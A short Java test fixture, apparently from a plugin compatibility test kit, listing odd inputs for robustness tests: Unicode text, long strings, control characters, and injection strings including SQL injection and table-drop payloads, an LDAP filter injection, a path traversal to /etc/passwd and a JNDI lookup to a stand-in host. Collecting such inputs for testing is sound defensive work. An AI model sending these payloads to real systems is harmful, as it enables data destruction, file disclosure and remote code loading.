package org.peyk.spi.tck;

import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

/** Texts that no plugin knows, some of which mean something to a database or a directory service. */
final class Strange {

    /** Short enough for an identifier of the library, and free of control characters. */
    static final List<String> IDS = List.of(
            "peyk-tck-boyle-bir-sey-yok",
            "ığüşöçİ 🙂",
            "' OR '1'='1",
            "x'; DROP TABLE kisi; --",
            "*)(|(uid=*",
            "../../etc/passwd",
            "${jndi:ldap://x.example/a}",
            "x".repeat(200));

    /** The same and longer ones. */
    static final List<String> KEYS = with(IDS, "x".repeat(100_000));

    /** Anything at all. */
    static final List<String> TEXTS = with(KEYS, "", " ", "\0", "-1", "99999999999999999999", "\uD800", "a\r\nb");

    private Strange() {}

    private static List<String> with(List<String> texts, String... more) {
        return Stream.concat(texts.stream(), Arrays.stream(more)).toList();
    }
}
